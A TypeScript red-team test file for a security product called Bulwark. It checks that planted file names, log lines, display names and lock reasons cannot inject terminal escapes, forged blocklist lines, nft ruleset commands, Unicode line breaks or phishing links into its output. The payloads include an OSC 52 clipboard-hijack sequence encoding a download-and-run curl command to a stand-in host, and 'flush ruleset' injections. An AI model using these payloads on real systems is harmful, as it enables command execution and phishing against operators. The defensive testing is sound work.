// Red-team round on text that reaches other programs: stored or planted text that Bulwark writes out later, made to
// act instead of being read. Sinks attacked: the operator's terminal (commander's own error lines, `check authlog
// --matches`), tab-separated output fed to a blocklist script, `--format nft` fed to `nft -f` as root, the API's JSON
// as an administrator's screen shows it, the audit export read by a SIEM that splits lines the Unicode way, and the
// body of a genuine security notice.
// Attackers: another local account that names files in a directory the operator globs (a shared export or log
// collection directory) or writes sshd-shaped lines into a log (`logger -t sshd`); a user of the legacy system whose
// display name comes in through `users import`; a help-desk API caller (accounts.write) who locks an account; and a
// hijacker holding a fresh session of someone else's account, with a few self-made accounts of their own.
// Each test is an attack that must fail: it passes when the product is safe. Five findings, fixed (the names say
// "was: …"); the nft test pins a defence that held. Temp dirs and
// loopback only. Not repeated here: escapeControls / inertJSON themselves (src/lib/terminal.test.ts), planted names in
// `users import` and `init` output (operator-cli-red-team), lock reasons in `users unlock` (cli-admin-attacks),
// finishCheck's escaping (cli-check-output-safety), header injection through addresses and kinds (mail-*-attacks).
import assert from "node:assert/strict";
import { readdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { DEFAULT_EMAIL_CHANGE_POLICY } from "../src/accounts/email-change/index.ts";
import { openAPIFixture, type APIFixture } from "./helpers/api-fixture.ts";
import { authFlows } from "./helpers/auth-flows.ts";
import { bulwarkInProcess } from "./helpers/cli.ts";
import { scratchRoot } from "./helpers/scratch.ts";
import { sharedFixture } from "./helpers/shared-fixture.ts";

const { root, fresh } = scratchRoot("bulwark-output-injection-redteam-");
const QUIET = { BULWARK_LOG_LEVEL: "silent", BULWARK_DATABASE_URL: "", BULWARK_MASTER_KEY: "" };

// What must never reach the operator's terminal raw: C0 (but for \n), DEL, C1 and the bidirectional controls.
// eslint-disable-next-line no-control-regex
const TERMINAL_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
// OSC 52 writes the clipboard of most terminal emulators (the next paste runs `curl -s evil.example/x|sh`); ESC [2K
// erases the line that showed it. No "=" in it: commander's error text is cut at the first "=" of an unknown option.
const CLIPBOARD = "\u001b]52;c;Y3VybCAtcyBldmlsLmV4YW1wbGUveHxzaA\u0007\u001b[2K";

/** What a shell's `*` (or `*.csv`) gives in `dir`: the names sorted, those starting with a dot left out. */
function glob(dir: string, suffix = ""): string[] {
  return readdirSync(dir).filter((n) => !n.startsWith(".") && n.endsWith(suffix)).sort();
}

describe("the operator's terminal and the tools fed from it", () => {
  it("attack: a file planted in a directory the operator globs (`cd /srv/exports && bulwark users import *.csv`) cannot drive the terminal through commander's own error line: its controls and newlines are written escaped, exit 2 (CWE-150, ASVS 16.4.1) (was: OSC 52 rewrote the clipboard)", async () => {
    // The attacker can create files where the legacy system exports to (or where remote hosts' logs are collected).
    // A name that begins with "--" is taken for an option; commander's "unknown option" line quotes it.
    const exports = fresh("exports");
    writeFileSync(join(exports, "users.csv"), "email\nana@example.org\n");
    writeFileSync(join(exports, `--${CLIPBOARD}.csv`), "email\nmallory@example.org\n");
    const logs = fresh("collected-logs");
    writeFileSync(join(logs, "web1.log"), "Jan 14 04:00:01 srv sshd[100]: Failed password for root from 198.51.100.7 port 5000 ssh2\n");
    writeFileSync(join(logs, `--${CLIPBOARD}.log`), "\n");
    const runs: string[][] = [
      ["users", "import", ...glob(exports, ".csv").map((n) => join(".", n))],
      ["users", "import", "--dry-run", ...glob(exports, ".csv")],
      ["check", "authlog", ...glob(logs)],
      ["check", "files", "--compare", "baseline.json", ...glob(logs)],
    ];
    const raw: string[] = [];
    for (const args of runs) {
      const r = await bulwarkInProcess(args, { ...QUIET, BULWARK_DATA_DIR: join(root, "no-site") });
      assert.equal(r.code, 2, `bulwark ${JSON.stringify(args)}: ${r.stderr}`);
      if (TERMINAL_CONTROL.test(r.stdout + r.stderr)) raw.push(`bulwark ${args.slice(0, 2).join(" ")} …: ${JSON.stringify(r.stderr)}`);
    }
    // Secure: the planted name is refused (exit 2) with its controls shown as \xNN, as every other error of the CLI
    // (reportError) writes them. Today commander's line carries the raw OSC 52 and erase-line sequence.
    assert.deepEqual(raw, [], "commands that wrote terminal controls raw");
  });

  it("attack: a log file named with a tab and a newline cannot forge a line of `check authlog --matches` (LINE<TAB>IP<TAB>KIND) naming an address that failed nowhere: with several files such a name is written escaped, and stderr says so (CWE-117, CWE-150, ASVS 1.3.3, 16.4.1) (was: a forged match for a blocklist, and the name's OSC raw on the terminal)", async () => {
    // The operator collects logs from several hosts into one directory and feeds the tab-separated lines --help promises to a script:
    //   bulwark check authlog --matches /srv/collected/*.log | cut -f2 | sort -u | xargs -n1 block-address
    // The attacker names their own host's file after a forged match and plants one failure line in it.
    const dir = fresh("matches");
    const victimOfTheBlock = "192.0.2.1"; // the operator's gateway, a monitoring host, a customer's office
    writeFileSync(join(dir, "a-web1.log"), "Jan 14 04:00:01 srv sshd[100]: Failed password for root from 198.51.100.7 port 5000 ssh2\n");
    writeFileSync(join(dir, `b-web2.log:1\t${victimOfTheBlock}\tfailed-password\n${CLIPBOARD}x.log`),
      "Jan 14 04:00:02 srv sshd[101]: Failed password for root from 198.51.100.8 port 5001 ssh2\n");
    const files = glob(dir).map((n) => join(dir, n));
    const r = await bulwarkInProcess(["check", "authlog", ...files, "--year", "2025", "--matches", "--fail-on", "none"], { ...QUIET, BULWARK_DATA_DIR: join(root, "no-site") });
    // Refusing such a name (exit 2, named with its controls escaped) is secure too.
    if (r.code === 2) return void assert.equal(TERMINAL_CONTROL.test(r.stdout + r.stderr), false, `the refusal wrote terminal controls raw: ${JSON.stringify(r.stderr)}`);
    assert.equal(r.code, 0, r.stderr);
    const lines = r.stdout.split("\n").filter((l) => l !== "");
    // Two failures were logged, so two lines; each of exactly three fields, the second an address that failed.
    assert.equal(lines.length, 2, `--matches printed ${lines.length} lines for 2 failures: ${JSON.stringify(r.stdout)}`);
    for (const line of lines) {
      const fields = line.split("\t");
      assert.equal(fields.length, 3, `a line of --matches with ${fields.length} fields: ${JSON.stringify(line)}`);
      assert.ok(["198.51.100.7", "198.51.100.8"].includes(fields[1] as string), `an address that failed nowhere in the logs: ${JSON.stringify(line)}`);
    }
    // Beside the two tabs each line is made of (checked above), nothing that drives a terminal, in stdout or the note.
    assert.equal(TERMINAL_CONTROL.test(r.stdout.replaceAll("\t", "") + r.stderr), false, `--matches wrote terminal controls raw: ${JSON.stringify(r.stdout + r.stderr)}`);
  });

  it("attack: sshd-shaped lines written with `logger -t sshd` whose source token carries nft syntax or escape codes put nothing into the `--format nft` ruleset loaded as root (only the fixed template, comments and element lines of valid addresses) is refused", async () => {
    const dir = fresh("nft");
    const sources = [
      "evil.example;flush ruleset", "evil.example} flush ruleset {", "198.51.100.7%eth0;flush ruleset",
      `a.example${CLIPBOARD}`, "b.example\rflush ruleset", "c.example\u2028flush ruleset",
    ];
    const lines: string[] = [];
    let pid = 100;
    for (const from of sources) for (let k = 0; k < 6; k++) lines.push(`Jan 14 04:0${k}:1${k} srv sshd[${pid++}]: Failed password for root from ${from} port 5000 ssh2`);
    // One genuine offender, so the sets are not empty: its elements must be the only element lines.
    for (let k = 0; k < 6; k++) lines.push(`Jan 14 05:0${k}:00 srv sshd[${pid++}]: Failed password for root from 203.0.113.9 port 5000 ssh2`);
    const file = join(dir, "auth.log");
    writeFileSync(file, `${lines.join("\n")}\n`);
    const r = await bulwarkInProcess(["check", "authlog", file, "--year", "2025", "--format", "nft", "--fail-on", "none"], { ...QUIET, BULWARK_DATA_DIR: join(root, "no-site") });
    assert.equal(r.code, 0, r.stderr);
    const template = /^(table inet bulwark \{|  set authlog_offenders_(v4|v6|v6_nets) \{|    type ipv[46]_addr|    flags interval|    elements = \{|    \}|  \}|\})$/;
    const statements = r.stdout.split("\n").filter((l) => l !== "" && !l.startsWith("#"));
    const foreign = statements.filter((l) => !template.test(l) && !/^ {6}[0-9a-f.:/]+,?$/.test(l));
    assert.deepEqual(foreign, [], `lines nft would run that the template does not hold: ${JSON.stringify(r.stdout)}`);
    assert.ok(statements.some((l) => l.trim() === "203.0.113.9"), `the genuine offender is in the set: ${r.stdout}`);
    // Comments may name a host, but no comment may end early (a line break) or carry escape codes.
    assert.equal(TERMINAL_CONTROL.test(r.stdout) || /[\r\u2028\u2029]/.test(r.stdout), false, `controls in the ruleset: ${JSON.stringify(r.stdout)}`);
  });
});

describe("stored text an administrator reads back, and a SIEM ingests", () => {
  let fx: APIFixture;
  let adminToken: string;
  before(async () => {
    fx = await openAPIFixture();
    const admin = await fx.user(["admin"]);
    adminToken = await fx.token(admin.id, ["admin"]);
  });
  after(async () => {
    await fx.close();
  });

  it("attack: a display name from the legacy system holding a right-to-left override (\"Ana \\u202Eexe.gpj\") is a bad row of `users import`, as POST /api/v1/users refuses it (ASVS 2.2.2, 16.4.1) (was: stored, and echoed raw by GET /api/v1/users)", async () => {
    const rlo = "Ana \u202eexe.gpj"; // shows as "Ana jpg.exe"
    // The API's own door refuses it (NO_CONTROL, pinned in api-hardening): the product's rule for this field.
    const viaAPI = await fx.call("POST", "/api/v1/users", { token: adminToken, body: { email: "rlo-api@example.org", displayName: rlo } });
    assert.equal(viaAPI.statusCode, 400, viaAPI.body);
    // The legacy export: the attacker chose their display name in the old system, the operator imports the file.
    const csv = join(fresh("legacy"), "users.csv");
    writeFileSync(csv, `email,display_name\nrlo-import@example.org,"${rlo}"\nplain-import@example.org,Plain Name\n`);
    const imported = await bulwarkInProcess(["users", "import", "--skip-bad", csv], { ...QUIET, BULWARK_DATA_DIR: fx.app.config.dataDir });
    assert.equal(imported.code, 0, imported.stderr);
    // What an administrator's screen gets for each account: GET /api/v1/users/:id.
    const users: Array<{ email: string; displayName: string | null }> = [];
    for (const email of ["rlo-import@example.org", "plain-import@example.org"]) {
      const found = await fx.app.accounts.users.findByIdentifier(email);
      if (!found) continue;
      const read = await fx.call("GET", `/api/v1/users/${found.id}`, { token: adminToken });
      assert.equal(read.statusCode, 200, read.body);
      const body = read.json() as { user?: { email: string; displayName: string | null }; email?: string; displayName?: string | null };
      users.push((body.user ?? body) as { email: string; displayName: string | null });
    }
    assert.ok(users.some((u) => u.displayName === "Plain Name"), `the good row is imported: ${JSON.stringify(users)}`);
    // Secure: the row is refused as bad (or stored without the override), as the API refuses the field. Today it is
    // stored and every read of the account hands the override to the administrator's screen.
    const shown = users.map((u) => u.displayName ?? "").filter((name) => /[\u202a-\u202e\u2066-\u2069]/.test(name));
    assert.deepEqual(shown, [], `a display name with a bidirectional override came in through the import: ${JSON.stringify(shown)}`);
  });

  it("attack: a help desk's lock reason holding U+2028 is written escaped by `audit export` and `audit tail --json`, so a SIEM that splits lines the Unicode way keeps the user.locked event whole (CWE-117, ASVS 1.2.3, 16.4.1) (was: raw, cut into pieces that were not JSON)", async () => {
    const helpdesk = await fx.user(["accounts.read", "accounts.write"]);
    const token = await fx.token(helpdesk.id, ["accounts.read", "accounts.write"]);
    const victim = await fx.user([]);
    // Accepted by the API (U+2028 is neither \p{Cc} nor a bidirectional control).
    const locked = await fx.call("POST", `/api/v1/users/${victim.id}/lock`, { token, body: { reason: "fraud review\u2028[]\u2029" } });
    assert.equal(locked.statusCode, 200, locked.body);
    // Line breaks as Python's str.splitlines() knows them (its documentation's table): \n \r \r\n \v \f \x1c-\x1e \x85
    // \u2028 \u2029. A JSONL export must be one JSON value per line for any of these readers.
    const unicodeLines = (text: string): string[] => text.split(/\r\n|[\n\r\u000b\u000c\u001c-\u001e\u0085\u2028\u2029]/).filter((l) => l.trim() !== "");
    const exported = await bulwarkInProcess(["audit", "export"], { ...QUIET, BULWARK_DATA_DIR: fx.app.config.dataDir });
    const tailed = await bulwarkInProcess(["audit", "tail", "-n", "50", "--json"], { ...QUIET, BULWARK_DATA_DIR: fx.app.config.dataDir });
    for (const [name, r] of [["audit export", exported], ["audit tail --json", tailed]] as const) {
      assert.equal(r.code, 0, r.stderr);
      const newlineLines = r.stdout.split("\n").filter((l) => l !== "");
      assert.ok(newlineLines.some((l) => l.includes("\"user.locked\"")), `${name} holds the lock event`);
      const broken = unicodeLines(r.stdout).filter((l) => {
        try {
          JSON.parse(l);
          return false;
        } catch {
          return true;
        }
      });
      // Secure: the line separators are written \u2028 / \u2029 (inertJSON escapes C1 and bidi already; the value
      // parses the same). Today they are written raw and the event splits into fragments no reader can parse.
      assert.deepEqual(broken, [], `${name}: lines that are not JSON once split at Unicode line breaks`);
      assert.equal(unicodeLines(r.stdout).length, newlineLines.length, `${name}: a Unicode line reader sees another number of events`);
    }
  });
});

describe("a genuine security notice", () => {
  const fx = sharedFixture();
  const flows = authFlows(() => fx);

  it("attack: a hijacker cannot put a link of their choosing into the genuine \"a change of your email address was requested\" notice: an address the outbox would never mail is refused with 400 BULWARK_ERR_MAIL_ADDRESS whatever the mailbox's hourly count, and the notice never quotes one (ASVS 6.3.7, 2.2.2, CWE-74) (was: quoted verbatim once the mailbox's count was spent)", async () => {
    // The hijacker holds a fresh session of the owner's account (a phished password) and three throw-away accounts.
    const owner = await flows.signedIn("lure-owner@example.org");
    // When the mailbox is free, the same address is refused outright (the confirmation mail cannot be queued to it):
    const refusedOutright = await owner.b.request("POST", "/auth/email/change", { csrf: true, body: { newEmail: "y+https://evil.example/keep@evil-other.test" } });
    assert.equal(refusedOutright.statusCode, 400, refusedOutright.body);
    // ... so the hijacker spends the mailbox's count with its plain spelling ("+tags" fold to one mailbox) ...
    for (let i = 0; i < DEFAULT_EMAIL_CHANGE_POLICY.maxPerWindow; i++) {
      const sock = await flows.signedIn(`lure-spender${i}@attacker.example`);
      assert.equal((await sock.b.request("POST", "/auth/email/change", { csrf: true, body: { newEmail: "x@evil.test" } })).statusCode, 202);
    }
    await fx.deliver();
    const before = fx.mailTo(owner.email).length;
    // ... and asks, as the owner, for the spelling that carries the lure: withheld, so no mail to it is queued (which
    // would have refused it), and only the notice to the owner's real address goes out.
    const lure = "x+https://evil.example/keep-your-account?case=7731@evil.test";
    const asked = await owner.b.request("POST", "/auth/email/change", { csrf: true, body: { newEmail: lure } });
    await fx.deliver();
    const notices = fx.mailTo(owner.email).slice(before);
    // Secure: refused as when the mailbox is free (400), or the notice names the address without its text (an address
    // this server cannot send mail to), as the email-changed notice does for one (security-notices.ts). Today the
    // genuine notice, DKIM-signed from the service, carries https://evil.example/… for the owner to click.
    const carrying = notices.filter((m) => m.body.includes("https://evil.example"));
    assert.deepEqual(carrying.map((m) => m.subject), [], `a genuine notice quotes the hijacker's link (answer ${asked.statusCode}): ${JSON.stringify(carrying.map((m) => m.body))}`);
  });
});
